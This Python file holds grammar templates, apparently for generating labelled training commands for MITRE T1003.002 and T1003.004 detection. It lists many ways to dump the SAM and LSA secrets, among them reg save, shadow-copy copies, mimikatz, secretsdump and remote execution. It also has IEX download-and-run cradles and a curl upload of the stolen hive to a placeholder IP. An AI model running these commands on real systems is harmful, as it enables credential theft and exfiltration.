"""Templates of T1003.002: reading the SAM or the LSA secrets, by tool and by mechanism."""

from __future__ import annotations

from training.generators.grammar import parse_templates

SAM_TEMPLATES = parse_templates(
    r"""
reg-save-sam cmd: «reg¦reg.exe¦‹system32›\reg.exe» save ‹hklm›\«SAM¦sam¦Sam» ‹file›« /y¦»
reg-save-security cmd +T1003.004: «reg¦reg.exe¦‹system32›\reg.exe» save ‹hklm›\«SECURITY¦security¦Security» ‹file›« /y¦¦ /reg:64»
reg-save-system cmd: «reg¦reg.exe¦‹system32›\reg.exe» save ‹hklm›\«SYSTEM¦system¦System» ‹file›« /y¦»
reg-save-chain cmd: reg save ‹hklm›\sam ‹file› «&¦&&» reg save ‹hklm›\system ‹file›« & reg save ‹hklm›\security ‹file›¦»
reg-save-loop cmd: for %h in («sam system security¦SAM SYSTEM¦sam security system¦security sam») do @reg save ‹hklm›\%h ‹dir›\%h.«hiv¦save¦bak»
reg-save-unc cmd: reg save ‹hklm›\«sam¦system» \\‹server›\«c$¦admin$¦share¦temp¦public»\‹name›.«hiv¦dat¦tmp»
reg-save-unc-security cmd +T1003.004: reg save ‹hklm›\security \\‹server›\«c$¦admin$¦share¦temp¦public»\‹name›.«hiv¦dat¦tmp»
reg-save-remote-key cmd: reg save \\‹server›\‹hklm›\SAM ‹file›
reg-save-remote-key-security cmd +T1003.004: reg save \\‹server›\‹hklm›\SECURITY ‹file›
reg-export-sam cmd: «reg¦reg.exe» export ‹hklm›\«sam¦SAM¦SAM\SAM¦sam\sam\domains» ‹file›« /y¦»
reg-export-security cmd +T1003.004: «reg¦reg.exe» export ‹hklm›\«security¦SECURITY¦SECURITY\Policy\Secrets¦security\policy» ‹file›« /y¦»
regedit-export cmd: «regedit¦regedit.exe¦C:\Windows\regedit.exe» «/e¦-e¦/E¦/s /e» ‹file› "HKEY_LOCAL_MACHINE\«SAM¦SAM\SAM»"
regedit-export-security cmd +T1003.004: «regedit¦regedit.exe¦C:\Windows\regedit.exe» «/e¦-e¦/E¦/s /e» ‹file› "HKEY_LOCAL_MACHINE\«SECURITY¦SECURITY\Policy»"
reg-query-sam-users cmd: «reg¦reg.exe» query «‹hklm›\SAM\«SAM\Domains\Account\Users¦SAM\Domains\Account¦SAM»¦"‹hklm›\SAM\«SAM\Domains\Account\Users¦SAM\Domains\Account¦SAM»"» «/s¦/s /v V¦/v F¦»
reg-query-security-account cmd: «reg¦reg.exe» query ‹hklm›\SECURITY\«SAM\Domains\Account¦SAM\Domains¦SAM»« /s¦»
reg-query-secrets cmd +T1003.004: «reg¦reg.exe» query ‹hklm›\SECURITY\Policy\«Secrets¦Secrets\DPAPI_SYSTEM¦Secrets\$MACHINE.ACC¦PolEKList¦Secrets\_SC_‹name›»« /s¦»‹maybe›
reg-query-bootkey cmd: reg query ‹hklm›\SYSTEM\CurrentControlSet\Control\Lsa\«JD¦Skew1¦GBG¦Data» & reg save ‹hklm›\SAM ‹file›
reg-copy-sam cmd: reg copy ‹hklm›\SAM\SAM ‹hklm›\SOFTWARE\‹Word› /s /f
reg-renamed cmd: ‹dir›\‹name›.exe save ‹hklm›\«sam¦system» ‹file›
reg-renamed-security cmd +T1003.004: ‹dir›\‹name›.exe save ‹hklm›\security ‹file›
reg-query-remote cmd: reg query \\‹server›\‹hklm›\SAM\SAM\Domains\Account\Users /s
reg-query-remote-security cmd +T1003.004: reg query \\‹server›\‹hklm›\SECURITY\Policy\Secrets /s
regini-sam cmd: «setacl.exe¦‹dir›\SetACL.exe» -on "HKLM\SAM\SAM" -ot reg -actn ace -ace "n:«Administrators¦‹user›»;p:full"
regini-sam-security cmd +T1003.004: «setacl.exe¦‹dir›\SetACL.exe» -on "HKLM\SECURITY" -ot reg -actn ace -ace "n:«Administrators¦‹user›»;p:full"
vssadmin-copy-sam cmd: vssadmin create shadow /for=C: «&¦&&» copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» ‹file›
vssadmin-copy-sam-security cmd +T1003.004: vssadmin create shadow /for=C: «&¦&&» copy ‹vss›\Windows\System32\config\SECURITY ‹file›
vss-copy-sam cmd: «copy¦xcopy /y¦copy /y» ‹vss›\«windows\system32\config\sam¦Windows\System32\config\SAM¦windows\system32\config\system» ‹file›
vss-copy-sam-security cmd +T1003.004: «copy¦xcopy /y¦copy /y» ‹vss›\«Windows\System32\Config\SECURITY¦windows\system32\config\security» ‹file›
vss-type-sam cmd: type ‹vss›\Windows\System32\config\SAM > ‹file›
vss-type-sam-security cmd +T1003.004: type ‹vss›\Windows\System32\config\SECURITY > ‹file›
mklink-vss-sam cmd: mklink /d «C:\‹name›¦‹dir›\‹name›» ‹vss›\ && copy C:\‹name›\Windows\System32\config\SAM ‹dir›
mklink-vss-sam-security cmd +T1003.004: mklink /d «C:\‹name›¦‹dir›\‹name›» ‹vss›\ && copy C:\‹name›\Windows\System32\config\SECURITY ‹dir›
wmic-shadow-sam cmd: wmic shadowcopy call create Volume='C:\' & copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» ‹file›
esentutl-sam cmd: «esentutl¦esentutl.exe» /y /vss ‹config›\«SAM¦SYSTEM» /d ‹file›
esentutl-sam-security cmd +T1003.004: «esentutl¦esentutl.exe» /y /vss ‹config›\SECURITY /d ‹file›
esentutl-vss-sam cmd: «esentutl.exe¦esentutl» /y ‹vss›\Windows\System32\config\«sam¦SAM» /d ‹file› /o
esentutl-vss-sam-security cmd +T1003.004: «esentutl.exe¦esentutl» /y ‹vss›\Windows\System32\config\«security¦SECURITY» /d ‹file› /o
diskshadow-sam cmd: diskshadow /s ‹dir›\‹name›.txt && copy «Z¦X¦P»:\Windows\System32\config\SAM ‹dir›
diskshadow-sam-security cmd +T1003.004: diskshadow /s ‹dir›\‹name›.txt && copy «Z¦X¦P»:\Windows\System32\config\SECURITY ‹dir›
diskshadow-exec cmd: diskshadow.exe /s ‹file› & xcopy «z¦s¦y»:\windows\system32\config\«sam¦system» ‹dir›
copy-repair-sam cmd: copy «C:\Windows\Repair¦%windir%\repair¦C:\Windows\System32\config\RegBack¦%systemroot%\system32\config\RegBack»\«SAM¦sam» ‹file›
copy-repair-sam-security cmd +T1003.004: copy «C:\Windows\Repair¦%windir%\repair¦C:\Windows\System32\config\RegBack¦%systemroot%\system32\config\RegBack»\SECURITY ‹file›
copy-config-sam cmd: «copy¦xcopy¦copy /b» ‹config›\«SAM¦sam» ‹file›
copy-config-sam-security cmd +T1003.004: «copy¦xcopy¦copy /b» ‹config›\SECURITY ‹file›
raw-copy-sam cmd: ‹dir›\«RawCopy.exe¦RawCopy64.exe¦‹name›.exe» /FileNamePath:‹config›\«SAM¦SYSTEM» /OutputPath:‹dir›
raw-copy-sam-security cmd +T1003.004: ‹dir›\«RawCopy.exe¦RawCopy64.exe¦‹name›.exe» /FileNamePath:‹config›\SECURITY /OutputPath:‹dir›
raw-copy-c0 cmd: «‹dir›\«forecopy_handy.exe -f¦‹name›.exe --copy» ‹config›\SAM ‹dir›¦‹dir›\hobocopy.exe ‹config› ‹dir› SAM»
wbadmin-sam cmd: wbadmin start backup -backupTarget:«E:¦\\‹server›\backup» -include:‹config›\SAM,‹config›\SECURITY -quiet
makecab-sam cmd: makecab ‹vss›\Windows\System32\config\SAM ‹file›
makecab-sam-security cmd +T1003.004: makecab ‹vss›\Windows\System32\config\SECURITY ‹file›
expand-sam cmd: «7z¦7za.exe¦"C:\Program Files\7-Zip\7z.exe"» a ‹file› ‹vss›\Windows\System32\config\«SAM¦SYSTEM»
expand-sam-security cmd +T1003.004: «7z¦7za.exe¦"C:\Program Files\7-Zip\7z.exe"» a ‹file› ‹vss›\Windows\System32\config\SECURITY
certutil-encode-sam cmd: certutil -encode «‹dir›\sam.«hiv¦save¦hive»¦‹vss›\windows\system32\config\sam» ‹file›
hivenightmare cmd: ‹dir›\«HiveNightmare.exe¦SeriousSam.exe¦shadowsteal.exe¦CVE-2021-36934.exe»« 200¦ -o ‹dir›¦»
icacls-sam cmd: icacls ‹config›\«SAM¦sam»
findstr-shadow-sam cmd: for /L %i in (1,1,20) do @if exist \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\Windows\System32\config\SAM copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\Windows\System32\config\SAM ‹dir›
mimikatz-sam cmd: «mimikatz¦mimikatz.exe¦‹dir›\mimikatz.exe¦‹dir›\‹name›.exe» "privilege::debug" "«token::elevate" "¦»lsadump::sam" "exit"
mimikatz-sam-hives cmd: ‹dir›\«mimikatz¦m64¦‹name›».exe "lsadump::sam /system:‹dir›\‹name› /sam:‹dir›\‹name›" exit
mimikatz-secrets cmd +T1003.004: «mimikatz.exe¦‹dir›\‹name›.exe¦.\mimi.exe» «privilege::debug ¦»«token::elevate ¦»"lsadump::secrets«" exit¦ /patch" exit¦"»
mimikatz-patch cmd: «mimikatz.exe¦‹dir›\‹name›.exe» "privilege::debug" "lsadump::lsa /patch" exit
mimikatz-log cmd: «mimikatz.exe¦‹dir›\‹name›.exe» "log ‹name›.log" privilege::debug token::elevate lsadump::sam exit
pypykatz-registry cmd: pypykatz «registry --sam ‹file› --security ‹file› ‹file›¦live registry¦live lsa && pypykatz live registry¦registry ‹file› --sam ‹file›»
pwdump cmd: «‹dir›\¦»«pwdump.exe localhost¦pwdump6.exe -o ‹file› localhost¦PwDump7.exe¦fgdump.exe -c¦gsecdump.exe -«a¦s»¦QuarksPwDump.exe --dump-hash-local¦samdump2.exe SYSTEM SAM¦pwdump6.exe -x localhost»
quarks cmd: ‹dir›\«QuarksPwDump¦‹name›».exe --dump-hash-local --output ‹file›
cachedump-creddump cmd: «python¦py -3¦python.exe» ‹dir›\«pwdump.py¦creddump7\pwdump.py» ‹file› ‹file›« true¦»
cachedump-creddump-secrets cmd +T1003.004: «python¦py -3¦python.exe» ‹dir›\«lsadump.py¦creddump7\lsadump.py» ‹file› ‹file›« true¦»
gsecdump cmd: ‹dir›\«gsecdump¦gsecdump-v2b5».exe «-a¦-s¦--dump_hashes»
gsecdump-lsa cmd +T1003.004: ‹dir›\«gsecdump¦gsecdump-v2b5».exe «-l¦--dump_lsa»
lsasecretsview cmd +T1003.004: ‹dir›\«LSASecretsDump¦LSASecretsView¦LSASecretsDump64».exe« > ‹file›¦»
secretsdump-local bash: «secretsdump.py¦impacket-secretsdump¦python3 secretsdump.py¦python3 /opt/impacket/examples/secretsdump.py» -sam ‹lfile› -system ‹lfile›« -security ‹lfile›¦» LOCAL
secretsdump-remote bash: «secretsdump.py¦impacket-secretsdump¦python secretsdump.py» «‹domain›/¦./¦»‹user›:'‹pass›'@‹ip›« -outputfile ‹name›¦»
secretsdump-hash bash: «secretsdump.py¦impacket-secretsdump» -hashes «aad3b435b51404eeaad3b435b51404ee¦»:‹hash› «‹domain›/¦»‹user›@«‹ip›¦‹server›»« -history¦ -outputfile ‹name›¦»
secretsdump-win cmd: «‹dir›\secretsdump.exe¦python secretsdump.py¦py ‹dir›\secretsdump.py» -sam ‹file› -system ‹file›« -security ‹file›¦» LOCAL
secretsdump-kerberos bash: KRB5CCNAME=‹lfile› «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹host›.‹fqdn›
crackmapexec-sam bash: «crackmapexec¦cme¦nxc¦netexec¦poetry run crackmapexec» smb «‹ip›¦‹ip›/24¦‹lfile›» -u «‹user›¦administrator» -p '‹pass›' --sam
crackmapexec-lsa bash +T1003.004: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm» ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›»« --local-auth¦» --lsa
samdump2 bash: «samdump2¦/usr/bin/samdump2» «/mnt/‹word›/Windows/System32/config/SYSTEM /mnt/‹word›/Windows/System32/config/SAM¦‹lfile› ‹lfile›»‹lmaybe›
chntpw bash: «sudo ¦»chntpw «-l¦-i¦-u Administrator» «/mnt/‹word›/Windows/System32/config/SAM¦‹ldir›/SAM»
cp-mounted-sam bash: «cp¦sudo cp¦rsync -a» /mnt/«‹word›¦windows»/«Windows/System32/config/SAM¦WINDOWS/system32/config/sam» ‹ldir›
cp-mounted-sam-security bash +T1003.004: «cp¦sudo cp¦rsync -a» /mnt/«‹word›¦windows»/Windows/System32/config/SECURITY ‹ldir›
smbclient-sam bash: smbclient //‹ip›/C$ -U ‹user›%'‹pass›' -c 'get windows/system32/config/«RegBack/SAM¦sam» ‹name›'
smbclient-sam-security bash +T1003.004: smbclient //‹ip›/C$ -U ‹user›%'‹pass›' -c 'get windows/system32/config/RegBack/SECURITY ‹name›'
impacket-reg bash: «reg.py¦impacket-reg» ‹domain›/‹user›:'‹pass›'@‹ip› «save -keyName 'HKLM\\«SAM¦SYSTEM»' -o '\\\\‹ip›\\share'¦backup -o '\\\\‹ip›\\share'»
impacket-reg-security bash +T1003.004: «reg.py¦impacket-reg» ‹domain›/‹user›:'‹pass›'@‹ip› save -keyName 'HKLM\\SECURITY' -o '\\\\‹ip›\\share'
regsecrets bash: «regsecrets.py¦impacket-regsecrets¦python3 regsecrets.py» «‹domain›/¦»‹user›:'‹pass›'@‹ip›
msf-hashdump bash: msfconsole -q -x "use post/windows/gather/«hashdump¦smart_hashdump¦credentials/credential_collector»; set SESSION ‹n›; run"
msf-hashdump-secrets bash +T1003.004: msfconsole -q -x "use post/windows/gather/lsa_secrets; set SESSION ‹n›; run"
wmic-node-reg cmd: wmic /node:‹server›« /user:‹domain›\‹user› /password:‹pass›¦» process call create "«cmd.exe /c ¦»reg save ‹hklm›\«sam¦system» ‹dir›\‹name›.hiv"
wmic-node-reg-security cmd +T1003.004: wmic /node:‹server›« /user:‹domain›\‹user› /password:‹pass›¦» process call create "«cmd.exe /c ¦»reg save ‹hklm›\security ‹dir›\‹name›.hiv"
psexec-reg cmd: «psexec¦psexec.exe¦PsExec64.exe¦‹dir›\PsExec.exe» \\‹server› «-accepteula ¦»-s «cmd /c ¦»reg save ‹hklm›\sam ‹file›
psexec-reg-security cmd +T1003.004: «psexec¦psexec.exe¦PsExec64.exe¦‹dir›\PsExec.exe» \\‹server› «-accepteula ¦»-s «cmd /c ¦»reg save ‹hklm›\security ‹file›
psexec-regedit cmd: «psexec¦PsExec64.exe» «-accepteula ¦»-i «-d ¦»-s «regedit.exe¦C:\Windows\regedit.exe» /e ‹file› HKEY_LOCAL_MACHINE\SAM
schtasks-reg cmd: schtasks /create« /s ‹server›¦» /tn ‹name› /tr "«cmd /c ¦»reg save ‹hklm›\sam ‹dir›\‹name›" /sc once /st «00:00¦23:5‹n›» /ru «system¦SYSTEM»
schtasks-reg-security cmd +T1003.004: schtasks /create« /s ‹server›¦» /tn ‹name› /tr "«cmd /c ¦»reg save ‹hklm›\security ‹dir›\‹name›" /sc once /st «00:00¦23:5‹n›» /ru «system¦SYSTEM»
winrs-reg cmd: winrs -r:‹server›« -u:‹user› -p:‹pass›¦» "reg save ‹hklm›\«sam¦system» ‹dir›\‹name›.dat"
winrs-reg-security cmd +T1003.004: winrs -r:‹server›« -u:‹user› -p:‹pass›¦» "reg save ‹hklm›\security ‹dir›\‹name›.dat"
sc-reg cmd: sc« \\‹server›¦» create ‹name› binPath= "cmd.exe /c reg save ‹hklm›\SAM ‹dir›\‹name›.hiv" type= own
sc-reg-security cmd +T1003.004: sc« \\‹server›¦» create ‹name› binPath= "cmd.exe /c reg save ‹hklm›\SECURITY ‹dir›\‹name›.hiv" type= own
ssh-reg cmd: ssh ‹user›@‹ip› "reg save ‹hklm›\sam C:\‹name›.hiv"
ssh-reg-security cmd +T1003.004: ssh ‹user›@‹ip› "reg save ‹hklm›\security C:\‹name›.hiv"
ps-reg-save powershell: reg«¦.exe» save ‹hklm›\«sam¦system» «$env:TEMP\‹name›.hiv¦‹file›»« /y¦»
ps-reg-save-security powershell +T1003.004: reg«¦.exe» save ‹hklm›\security «$env:TEMP\‹name›.hiv¦‹file›»« /y¦»
ps-start-process powershell: Start-Process -FilePath "reg.exe" -ArgumentList "save","HKLM\«SAM¦SYSTEM»","‹dir›\‹name›"« -WindowStyle Hidden¦ -Wait¦ -Verb RunAs»
ps-start-process-security powershell +T1003.004: Start-Process -FilePath "reg.exe" -ArgumentList "save","HKLM\SECURITY","‹dir›\‹name›"« -WindowStyle Hidden¦ -Wait¦ -Verb RunAs»
ps-foreach-hives powershell: "sam","system","security" | «%¦ForEach-Object¦foreach» { «reg save HKLM\$_ "$env:TEMP\$_.hiv"¦& reg.exe save "HKLM\$_" "‹dir›\$_"¦reg export "HKLM\$_" "‹dir›\$_.reg" /y» }
ps-get-item-sam powershell: «Get-ItemProperty¦gp¦Get-ChildItem¦gci¦ls» «-Path ¦»«HKLM:\SAM\SAM\Domains\Account\Users\*¦'HKLM:\SAM\SAM\Domains\Account\Users'¦Registry::HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account»« -Recurse¦ | Select-Object V, F¦ | Format-List *¦»
ps-get-item-secrets powershell +T1003.004: «Get-ItemProperty¦Get-ChildItem¦gci» «HKLM:\SECURITY\Policy\Secrets¦"Registry::HKLM\SECURITY\Policy\Secrets\*"¦HKLM:\SECURITY\Policy\PolEKList¦'HKLM:\SECURITY\Policy\Secrets\$MACHINE.ACC\CurrVal'»« -Recurse¦»
ps-dotnet-registry powershell: $k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('«SAM\SAM\Domains\Account¦SAM\SAM\Domains\Account\Users\000001F4»'«,$true¦»); $k.GetValue('«V¦F¦»')
ps-dotnet-registry-security powershell +T1003.004: $k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SECURITY\Policy\Secrets'«,$true¦»); $k.GetSubKeyNames()
ps-remote-basekey powershell: $r = [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','‹server›'); $r.OpenSubKey('SAM\SAM\Domains\Account\Users').GetSubKeyNames()
ps-powerdump powershell: «Invoke-PowerDump¦IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-PowerDump.ps1'); Invoke-PowerDump¦. .\Invoke-PowerDump.ps1; Invoke-PowerDump¦Import-Module ‹dir›\Invoke-PowerDump.ps1; Invoke-PowerDump»
ps-powerdump-body powershell: function Get-BootKey { $s = [string]::Join("",$("JD","Skew1","GBG","Data" | %{Get-RegKeyClass "HKLM" "SYSTEM\CurrentControlSet\Control\Lsa\$_"})) }; function Get-UserHashes($u, [byte[]]$hbootkey) { Get-ItemProperty "HKLM:\SAM\SAM\Domains\Account\Users\‹n›" }
ps-invoke-mimikatz-sam powershell: Invoke-Mimikatz -Command '"«privilege::debug" "¦»«token::elevate" "¦»lsadump::sam"'« -ComputerName ‹server›¦»
ps-invoke-mimikatz-secrets powershell +T1003.004: Invoke-Mimikatz -Command '"token::elevate" "lsadump::secrets"'
ps-nishang powershell: «Get-PassHashes¦Get-PassHashes -PSObjectFormat¦IEX (iwr http://‹ip›/Get-PassHashes.ps1); Get-PassHashes¦. .\Get-PassHashes.ps1; Get-PassHashes»
ps-lsasecret powershell +T1003.004: «Enable-TSDuplicateToken; ¦»«Get-TSLsaSecret -Key '«$MACHINE.ACC¦DefaultPassword¦_SC_‹name›»'¦Get-LSASecret¦Get-TSLsaSecret -RegistryKey _SC_‹name›»
ps-ninjacopy powershell: Invoke-NinjaCopy -Path "‹config›\«SAM¦sam¦SYSTEM»" -LocalDestination "‹dir›\‹name›"« -ComputerName ‹server›¦»
ps-ninjacopy-security powershell +T1003.004: Invoke-NinjaCopy -Path "‹config›\SECURITY" -LocalDestination "‹dir›\‹name›"« -ComputerName ‹server›¦»
ps-vss-copy powershell: $«v¦s» = (Get-WmiObject -List Win32_ShadowCopy).Create("C:\","ClientAccessible"); cmd /c copy "‹vss›\Windows\System32\config\«SAM¦SYSTEM»" ‹file›
ps-vss-copy-security powershell +T1003.004: $«v¦s» = (Get-WmiObject -List Win32_ShadowCopy).Create("C:\","ClientAccessible"); cmd /c copy "‹vss›\Windows\System32\config\SECURITY" ‹file›
ps-copy-shadow powershell: «Copy-Item '‹vss›\Windows\System32\config\«SAM¦SYSTEM»' '‹dir›\‹name›'¦cp '‹vss›\Windows\System32\config\«SAM¦SYSTEM»' '‹dir›\‹name›'¦[System.IO.File]::Copy('‹vss›\Windows\System32\config\«SAM¦SYSTEM»', '‹dir›\‹name›')»
ps-copy-shadow-security powershell +T1003.004: «Copy-Item '‹vss›\Windows\System32\config\SECURITY' '‹dir›\‹name›'¦cp '‹vss›\Windows\System32\config\SECURITY' '‹dir›\‹name›'¦[System.IO.File]::Copy('‹vss›\Windows\System32\config\SECURITY', '‹dir›\‹name›')»
ps-copy-config powershell: «Copy-Item¦cp¦copy» ‹config›\«SAM¦RegBack\SAM» -Destination «‹dir›¦$env:TEMP»
ps-copy-config-security powershell +T1003.004: «Copy-Item¦cp¦copy» ‹config›\«SECURITY¦RegBack\SECURITY» -Destination «‹dir›¦$env:TEMP»
ps-invoke-command powershell: Invoke-Command -ComputerName ‹server›« -Credential $«c¦cred»¦» -ScriptBlock { reg save HKLM\«SAM¦SYSTEM» ‹file› }
ps-invoke-command-security powershell +T1003.004: Invoke-Command -ComputerName ‹server›« -Credential $«c¦cred»¦» -ScriptBlock { reg save HKLM\SECURITY ‹file› }
ps-wmi-create powershell: Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create -ArgumentList "«cmd /c ¦»reg save HKLM\SAM ‹dir›\‹name›"
ps-wmi-create-security powershell +T1003.004: Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create -ArgumentList "«cmd /c ¦»reg save HKLM\SECURITY ‹dir›\‹name›"
ps-cim-stdreg powershell: ([wmiclass]"\\‹server›\root\default:StdRegProv").«EnumKey(2147483650,"SAM\SAM\Domains\Account\Users").sNames¦GetBinaryValue(2147483650,"SAM\SAM\Domains\Account","V")»
ps-cim-stdreg-security powershell +T1003.004: ([wmiclass]"\\‹server›\root\default:StdRegProv").EnumKey(2147483650,"SECURITY\Policy\Secrets").sNames
ps-acl-sam powershell: $acl = Get-Acl "HKLM:\SAM\SAM"; $acl.SetAccessRule((New-Object System.Security.AccessControl.RegistryAccessRule("‹user›","FullControl","Allow"))); Set-Acl -Path "HKLM:\SAM\SAM" $acl
ps-acl-sam-security powershell +T1003.004: $acl = Get-Acl "HKLM:\SECURITY"; $acl.SetAccessRule((New-Object System.Security.AccessControl.RegistryAccessRule("‹user›","FullControl","Allow"))); Set-Acl -Path "HKLM:\SECURITY" $acl
ps-regsavekey powershell: Add-Type -MemberDefinition '[DllImport("advapi32.dll")] public static extern int RegSaveKey(IntPtr hKey, string f, IntPtr s);' -Name ‹Word› -Namespace W; [W.‹Word›]::RegSaveKey($«hSam¦k», "‹dir›\‹name›", 0) # SAM
ps-samdump-backup powershell: [‹Word›.NativeMethods]::RegOpenKeyEx([IntPtr]::new(-2147483646), "SAM", 4, 0x20019, [ref]$h); [‹Word›.NativeMethods]::RegSaveKeyEx($h, "‹dir›\‹name›.hiv", 0, 1)
ps-samdump-backup-security powershell +T1003.004: [‹Word›.NativeMethods]::RegOpenKeyEx([IntPtr]::new(-2147483646), "SECURITY", 4, 0x20019, [ref]$h); [‹Word›.NativeMethods]::RegSaveKeyEx($h, "‹dir›\‹name›.hiv", 0, 1)
ps-hivenightmare powershell: 1..«9¦15¦20» | % { $p = "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\Windows\System32\config\«SAM¦SYSTEM»"; [System.IO.File]::Copy($p, "‹dir›\‹name›$_") }
ps-hivenightmare-security powershell +T1003.004: 1..«9¦15¦20» | % { $p = "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\Windows\System32\config\SECURITY"; [System.IO.File]::Copy($p, "‹dir›\‹name›$_") }
ps-sharp powershell: «.\¦& ‹dir›\»«SharpSecDump.exe -target=‹server›¦SharpDump.exe; reg save HKLM\SAM ‹file›¦Seatbelt.exe -group=system; reg save HKLM\SAM ‹file›¦SharpSAMDump.exe¦GoSecretsDump.exe -sam ‹file› -system ‹file›»
sharpsecdump cmd: ‹dir›\«SharpSecDump¦‹name›».exe -target=«‹server›¦127.0.0.1»« -u=‹user› -p=‹pass› -d=‹domain›¦»
gosecretsdump cmd: «gosecretsdump¦gosecretsdump_win.exe¦‹dir›\‹name›.exe» -sam ‹file› -system ‹file›« -out ‹file›¦»
rundll-cpl-sam cmd: rundll32.exe ‹dir›\‹name›.dll,«DumpSam¦SamDump¦DumpHives» ‹config›\SAM ‹dir›
nanodump-reg cmd: ‹dir›\«regdump¦BackupOperatorToDA¦RegSave».exe «-t \\‹server› ¦»-o «\\‹server›\share\¦‹dir›» «SAM SYSTEM SECURITY¦»
dism-offline cmd: reg load HKLM\‹name› ‹vss›\Windows\System32\config\SAM
dism-offline-security cmd +T1003.004: reg load HKLM\‹name› ‹vss›\Windows\System32\config\SECURITY
reg-load-sam cmd: reg load «HKU¦HKLM»\‹name› «D¦E¦F»:\Windows\System32\config\SAM
reg-load-sam-security cmd +T1003.004: reg load «HKU¦HKLM»\‹name› «D¦E¦F»:\Windows\System32\config\SECURITY
cobalt-hashdump text: «beacon> hashdump¦meterpreter > hashdump¦sliver (‹word›) > hashdump¦[*] Tasked beacon to dump hashes¦meterpreter > run post/windows/gather/smart_hashdump¦meterpreter > lsa_dump_sam»
cobalt-hashdump-secrets text +T1003.004: meterpreter > «lsa_dump_secrets¦run post/windows/gather/lsa_secrets»
tar-sam cmd: tar -cf ‹file› -C \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config «SAM SYSTEM¦SAM SECURITY SYSTEM»
curl-sam cmd: «curl¦curl.exe» -«T¦F "f=@»«‹dir›\sam.«hiv¦save»¦‹dir›\SAM"» http://‹ip›:‹port›/‹name›
ntbackup-sam cmd: ntbackup backup systemstate /J ‹name› /F ‹file› & copy C:\Windows\repair\sam ‹dir›
"""
)
